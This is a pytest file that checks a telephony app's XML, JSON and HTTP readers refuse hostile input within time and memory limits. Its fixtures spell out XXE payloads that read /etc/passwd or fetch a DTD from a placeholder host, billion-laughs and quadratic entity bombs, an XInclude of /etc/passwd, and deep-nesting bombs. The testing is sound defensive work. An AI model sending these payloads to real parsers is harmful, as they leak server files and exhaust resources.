"""Known hostile documents, through every reader that could meet them: refused with a typed error,
in bounded time and with bounded memory, and without touching a file or the network.

Memory is measured two ways: ``tracemalloc`` (Python's own allocations: exact, per case) and the
growth of the process's peak RSS (also counts libxml2's C allocations, but only what goes past
the peak the process already reached, so it is an upper bound on a case's growth, not a
measure of it).
"""

from __future__ import annotations

import asyncio
import resource
import socket
import time
import tracemalloc
from collections.abc import Callable, Iterator

import pytest

from telephony_desktop.domain.errors import (
    ConnectionDropped,
    MalformedResponse,
    ProviderError,
    TelephonyError,
)
from telephony_desktop.i18n import using
from telephony_desktop.providers import http, xmlsafe
from telephony_desktop.providers.simotel import parse as simotel
from telephony_desktop.providers.telecmi import parse as telecmi
from telephony_desktop.providers.truecnam import parse as truecnam
from telephony_desktop.providers.verba import parse as verba
from telephony_desktop.providers.voicemeup import parse as voicemeup

MB = 1024 * 1024
MEMORY_LIMIT = 100 * MB
TIME_LIMIT_S = 5.0  # generous for a loaded CI machine; the cases take milliseconds


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch, request: pytest.FixtureRequest) -> None:
    """An external entity or DTD must never be fetched: any connection attempt fails the test
    (except in the HTTP-layer test, which talks to its own loopback server)."""
    if request.node.originalname == "test_a_100_mb_answer_is_refused_by_send":
        return

    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("a hostile document made the parser open a connection")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)


def _peak_rss() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024  # Linux: KiB


def bounded(read: Callable[[], object]) -> TelephonyError | object:
    """Run ``read``; its result or typed error, after checking its time and memory."""
    rss_before = _peak_rss()
    tracemalloc.start()
    started = time.perf_counter()
    try:
        result: TelephonyError | object = read()
    except (ProviderError, TelephonyError) as exc:
        result = exc
    finally:
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert elapsed < TIME_LIMIT_S, f"took {elapsed:.2f} s"
    assert peak < MEMORY_LIMIT, f"Python heap peaked at {peak / MB:.0f} MB"
    assert _peak_rss() - rss_before < MEMORY_LIMIT, "the process grew past 100 MB"
    return result


def _chunks(body: bytes, size: int = 64 * 1024) -> Iterator[bytes]:
    for i in range(0, len(body), size):
        yield body[i : i + size]


XML_READERS: dict[str, Callable[[bytes], object]] = {
    "xmlsafe": lambda body: xmlsafe.secure_fromstring(body, provider="P"),
    "xmlsafe stream": lambda body: list(
        xmlsafe.iter_records(_chunks(body), {"r", "status", "call_details"}, provider="P")
    ),
    "voicemeup": voicemeup.read_envelope,
    "verba": verba.parse_call_id,
    "truecnam": lambda body: truecnam.parse_call_start(body, "text/xml"),
}

# --- XXE, entity expansion -----------------------------------------------------------------

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<response><status>&x;</status><call_details unique_id="&x;"/></response>"""
XXE_HTTP = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY x SYSTEM "http://198.51.100.7/secret">]>
<response><status>&x;</status></response>"""
XXE_PARAMETER = b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://198.51.100.7/evil.dtd"> %p;]><response/>'
EXTERNAL_DTD = b'<!DOCTYPE response SYSTEM "http://198.51.100.7/evil.dtd"><response/>'
BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10))
    + b"]><response><status>&lol9;</status></response>"
)
# One 100 KB entity used 100,000 times: 10 GB once expanded, 400 KB as sent.
QUADRATIC = b'<!DOCTYPE r [<!ENTITY a "' + b"x" * 100_000 + b'">]><r>' + b"&a;" * 100_000 + b"</r>"

HOSTILE_XML = {
    "xxe file": XXE_FILE,
    "xxe http": XXE_HTTP,
    "xxe parameter entity": XXE_PARAMETER,
    "external dtd": EXTERNAL_DTD,
    "billion laughs": BILLION_LAUGHS,
    "quadratic blowup": QUADRATIC,
    "xxe in utf-16": XXE_FILE.decode()
    .replace('"1.0"?', '"1.0" encoding="UTF-16"?')
    .encode("utf-16"),
    "xxe in utf-32": XXE_FILE.decode().encode("utf-32"),
    "xxe in ebcdic": XXE_FILE.decode().replace('"1.0"?', '"1.0" encoding="cp037"?').encode("cp037"),
    "billion laughs split": b"\n" * 5 + BILLION_LAUGHS,
}


@pytest.mark.parametrize("reader", sorted(XML_READERS))
@pytest.mark.parametrize("case", sorted(HOSTILE_XML))
def test_entities_and_dtds_are_refused(case: str, reader: str) -> None:
    result = bounded(lambda: XML_READERS[reader](HOSTILE_XML[case]))
    assert isinstance(result, MalformedResponse), result
    with using("fr"):
        in_french = bounded(lambda: XML_READERS[reader](HOSTILE_XML[case]))
    assert isinstance(in_french, MalformedResponse), in_french
    for text in (str(result), str(in_french)):
        assert "root:" not in text and "passwd" not in text and "198.51" not in text


def test_xinclude_is_never_processed() -> None:
    body = (
        b'<response xmlns:xi="http://www.w3.org/2001/XInclude"><status>success</status>'
        b'<xi:include href="file:///etc/passwd" parse="text"/></response>'
    )
    root = xmlsafe.secure_fromstring(body, provider="P")
    assert "root:" not in "".join(root.itertext())
    env = voicemeup.read_envelope(body)
    assert env.ok and "root:" not in "".join(env.root.itertext())


# --- size and depth ------------------------------------------------------------------------

DEEP_XML = b"<a>" * 100_000 + b"</a>" * 100_000
DEEP_XML_UNCLOSED = b"<response>" + b"<a>" * 100_000
WIDE_XML = b"<r>" + b"<c/>" * 3_000_000 + b"</r>"  # 12 MB: 3 million elements
MANY_ATTRIBUTES = b"<r>" + b"<c a='1' b='2' c='3' d='4'/>" * 200_000 + b"</r>"
BIG_TEXT = b"<r>" + b"x" * (20 * MB) + b"</r>"  # libxml2 refuses text nodes over 10 MB
LONG_NAME = b"<" + b"a" * 100_000 + b"/>"


@pytest.mark.parametrize("reader", sorted(XML_READERS))
@pytest.mark.parametrize(
    "body",
    [DEEP_XML, DEEP_XML_UNCLOSED, BIG_TEXT, LONG_NAME],
    ids=["deep", "deep unclosed", "20 MB text", "long name"],
)
def test_deep_and_huge_xml_is_refused(reader: str, body: bytes) -> None:
    result = bounded(lambda: XML_READERS[reader](body))
    assert isinstance(result, MalformedResponse), result


@pytest.mark.parametrize(
    "reader", ["xmlsafe", "voicemeup", "verba"]
)  # the whole-document readers (TrueCNAM's own limit is 1 MB)
@pytest.mark.parametrize("body", [WIDE_XML, MANY_ATTRIBUTES], ids=["wide", "attributes"])
def test_documents_that_would_grow_a_huge_tree_are_refused(reader: str, body: bytes) -> None:
    result = bounded(lambda: XML_READERS[reader](body))
    assert isinstance(result, MalformedResponse), result
    assert "too large" in str(result)


def test_the_largest_tree_allowed_stays_within_bounds() -> None:
    """As many attributes and elements as the limits let through: parsed, under 100 MB."""
    with_attribute = xmlsafe.MAX_ATTRIBUTES - 10
    bare = xmlsafe.MAX_MARKUP - with_attribute - 10
    body = b"<r>" + b"<c a='1'/>" * with_attribute + b"<c/>" * bare + b"</r>"
    rss_before = _peak_rss()
    root = bounded(lambda: xmlsafe.secure_fromstring(body, provider="P"))
    assert not isinstance(root, TelephonyError)
    print(f"largest allowed tree: peak RSS grew {(_peak_rss() - rss_before) / MB:.0f} MB")


def test_the_stream_stops_reading_at_its_limit() -> None:
    pulled = 0

    def endless() -> Iterator[bytes]:
        nonlocal pulled
        yield b"<response>"
        while True:
            pulled += 1
            yield b"<call_details unique_id='x'/>" * 1000

    result = bounded(
        lambda: list(
            xmlsafe.iter_records(endless(), {"call_details"}, provider="P", max_bytes=4 * MB)
        )
    )
    assert isinstance(result, MalformedResponse) and "too large" in str(result)
    assert pulled * 29_000 < 5 * MB  # it stopped pulling once past the limit


@pytest.mark.parametrize(
    ("name", "read", "limit"),
    [
        (
            "xmlsafe",
            lambda b: xmlsafe.secure_fromstring(b, provider="P"),
            xmlsafe.MAX_DOCUMENT_BYTES,
        ),
        ("voicemeup", voicemeup.read_envelope, xmlsafe.MAX_DOCUMENT_BYTES),
        ("truecnam", lambda b: truecnam.parse_call_start(b, "text/xml"), truecnam.MAX_BODY_BYTES),
        (
            "truecnam csv",
            lambda b: truecnam.parse_call_start(b, "text/csv"),
            truecnam.MAX_BODY_BYTES,
        ),
    ],
)
def test_the_readers_own_size_limits(
    name: str, read: Callable[[bytes], object], limit: int
) -> None:
    body = b"<r>" + b" " * limit  # one byte over, and built before the measure starts
    result = bounded(lambda: read(body))
    assert isinstance(result, MalformedResponse), (name, result)


# --- JSON ----------------------------------------------------------------------------------

JSON_READERS: dict[str, Callable[[bytes], object]] = {
    "telecmi 200": lambda b: telecmi.check(200, b, {}, placing=False),
    "telecmi 400": lambda b: telecmi.check(400, b, {}, placing=True),
    "telecmi 502": lambda b: telecmi.check(502, b, {}, placing=True),
    "simotel 200": lambda b: simotel.check(200, b, action="call"),
    "simotel 400": lambda b: simotel.check(400, b, action="call"),
    "truecnam": lambda b: truecnam.parse_call_start(b, "application/json"),
}
DEEP_JSON = {
    "100k [": b"[" * 100_000,
    "100k [] closed": b"[" * 100_000 + b"]" * 100_000,
    "100k {": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    "deep message": b'{"success": 0, "code": 502, "message": ' + b"[" * 100_000 + b"}",
    "deep message closed": b'{"success":0,"message":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "noise then deep": b"<b>Notice</b>{" + b'"a":{' * 100_000 + b"}" * 100_001,
}


@pytest.mark.parametrize("reader", sorted(JSON_READERS))
@pytest.mark.parametrize("case", sorted(DEEP_JSON))
def test_deeply_nested_json_is_refused(case: str, reader: str) -> None:
    result = bounded(lambda: JSON_READERS[reader](DEEP_JSON[case]))
    assert isinstance(result, ProviderError), result


@pytest.mark.parametrize("reader", sorted(JSON_READERS))
@pytest.mark.parametrize("depth", [200, 500, 900, 990])
def test_json_nested_just_under_the_interpreters_limit(reader: str, depth: int) -> None:
    """Deep enough for ``json.loads`` to succeed, so the readers walk it: still no crash."""
    for body in (
        b'{"success": 0, "code": 200, "status": "ok", "message": %s1%s}'
        % (b"[" * depth, b"]" * depth),
        b'{"code": 200, "cdr": [{"from": %s1%s}], "request_id": "r", "status": "ok"}'
        % (b"[" * depth, b"]" * depth),
        b'{"data": %s{"status": "ok"}%s}' % (b"[" * depth, b"]" * depth),
    ):
        bounded(lambda body=body: JSON_READERS[reader](body))


# --- the HTTP layer: a 100 MB answer -------------------------------------------------------


async def _send_from_loopback(total: int, **kwargs: object) -> http.Reply:
    """A real HTTP exchange with a loopback server streaming ``total`` bytes in 1 MB chunks (the
    server reuses one chunk, so what is measured is the client's side)."""
    from aiohttp import web

    chunk = b"<" * MB

    async def handler(request: web.Request) -> web.StreamResponse:
        response = web.StreamResponse()
        await response.prepare(request)
        try:
            for _ in range(total // MB):
                await response.write(chunk)
        except (ConnectionError, RuntimeError):
            pass  # the client gave up, as it should
        return response

    app = web.Application()
    app.router.add_get("/x", handler)
    runner = web.AppRunner(app, access_log=None, handle_signals=False, shutdown_timeout=0.5)
    await runner.setup()
    try:
        site = web.TCPSite(runner, "127.0.0.1", 0)
        await site.start()
        port = runner.addresses[0][1]
        async with http.make_client() as client:
            return await http.send(
                client, "GET", f"http://127.0.0.1:{port}/x", provider="P", **kwargs
            )
    finally:
        await runner.cleanup()


@pytest.mark.parametrize(
    ("max_bytes", "memory"), [(None, MEMORY_LIMIT), (MB, 8 * MB)], ids=["default", "1 MB"]
)
def test_a_100_mb_answer_is_refused_by_send(max_bytes: int | None, memory: int) -> None:
    kwargs = {} if max_bytes is None else {"max_bytes": max_bytes}
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(ConnectionDropped) as info:
            asyncio.run(_send_from_loopback(100 * MB, **kwargs))
    finally:
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert time.perf_counter() - started < 20
    assert peak < memory, f"peaked at {peak / MB:.0f} MB"
    assert "larger than" in str(info.value) and info.value.retryable
